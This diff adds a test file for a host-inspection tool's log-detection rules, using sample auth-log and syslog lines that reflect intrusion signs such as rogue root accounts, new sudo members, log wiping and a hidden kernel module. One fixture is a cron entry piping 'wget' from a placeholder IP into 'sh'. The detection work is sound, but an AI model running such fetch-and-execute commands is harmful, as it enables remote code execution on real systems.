@@ -1,0 +1,123 @@
+import { describe, expect, it } from 'vitest';
+import { logRules } from '../../../../src/core/hosts/rules/logs.ts';
+import { foundIn, unshown } from '../../../support/host-rules.ts';
+import type { Firing } from '../../../support/host-rules.ts';
+import { probedAt } from '../../../support/probe-text.ts';
+
+const fires: readonly Firing[] = [
+  [
+    'a second root in the log',
+    'suspicious',
+    'second-root-made',
+    'auth-log',
+    [
+      'line May 19 03:12:44 helium useradd[9]: new user: name=toor, UID=0, GID=0, home=/home/toor, shell=/bin/sh, from=none',
+    ],
+  ],
+  [
+    'a new account that can log in',
+    'suspicious',
+    'account-made',
+    'auth-log',
+    [
+      'line May 19 03:12:44 helium useradd[9]: new user: name=support, UID=1005, GID=1005, home=/home/support, shell=/bin/bash, from=none',
+    ],
+  ],
+  [
+    'a new member of sudo',
+    'suspicious',
+    'account-in-admin-group',
+    'auth-log',
+    ["line May 19 03:12:44 helium usermod[9]: add 'support' to group 'sudo'"],
+  ],
+  [
+    'a changed password',
+    'notice',
+    'password-changed',
+    'auth-log',
+    ['line May 19 03:12:44 helium passwd[9]: pam_unix(passwd:chauthtok): password changed for root'],
+  ],
+  [
+    'a changed crontab',
+    'notice',
+    'crontab-changed',
+    'syslog',
+    ['line May 19 03:12:44 helium crontab[9]: (root) REPLACE (root)'],
+  ],
+  [
+    'a cron job that loads a shell script',
+    'suspicious',
+    'cron-runs-bad-command',
+    'syslog',
+    ['line May 19 03:12:44 helium CRON[9]: (root) CMD (wget -qO- http://[ip]/a | sh)'],
+  ],
+  [
+    'a cron job in /tmp',
+    'suspicious',
+    'cron-runs-bad-command',
+    'syslog',
+    ['line May 19 03:12:44 helium CRON[9]: (www-data) CMD (/tmp/.x/update >/dev/null 2>&1)'],
+  ],
+  [
+    'somebody who tried sudo',
+    'suspicious',
+    'not-in-sudoers',
+    'auth-log',
+    ['line May 19 03:12:44 helium sudo[9]:  www-data : user NOT in sudoers ; PWD=/ ; USER=root ; COMMAND=/bin/sh'],
+  ],
+  [
+    'a stranger who became root',
+    'notice',
+    'became-root',
+    'auth-log',
+    ['line May 19 03:12:44 helium su[9]: (to root) support on pts/1'],
+  ],
+  [
+    'a card that listens to all',
+    'notice',
+    'listens-to-all-traffic',
+    'syslog',
+    ['line May 19 03:12:44 helium kernel: device eth0 entered promiscuous mode'],
+  ],
+  [
+    'a foreign module',
+    'notice',
+    'foreign-kernel-module',
+    'syslog',
+    ['line May 19 03:12:44 helium kernel: [12.1] hide: loading out-of-tree module taints kernel.'],
+  ],
+  [
+    'an emptied auth.log',
+    'suspicious',
+    'log-emptied',
+    'auth-log',
+    [`file /var/log/auth.log 0 ${probedAt / 1000 - 9e6} ${probedAt / 1000 - 7_200} no`],
+  ],
+  [
+    'an auth.log of which the beginning is gone',
+    'suspicious',
+    'log-emptied',
+    'auth-log',
+    [
+      `file /var/log/auth.log 900 ${probedAt / 1000 - 9e6} ${probedAt / 1000 - 60} no`,
+      'sum total 9 failed 0 routine 9 own 0 kept 0 odd 0 first May_20_03:00:00 last May_20_11:59:00',
+    ],
+  ],
+  [
+    'an emptied register of logins',
+    'suspicious',
+    'log-emptied',
+    'logins',
+    [`file /var/log/wtmp 0 ${probedAt / 1000 - 9e6} ${probedAt / 1000 - 7_200} no`],
+  ],
+];
+
+describe('the rules for logs', () => {
+  it.each(fires)('find %s', (...[, severity, rule, part, rows]) => {
+    expect(foundIn(part, rows)).toContain(`${severity} ${rule}`);
+  });
+
+  it('are all shown to fire', () => {
+    expect(unshown(logRules, fires)).toEqual([]);
+  });
+});
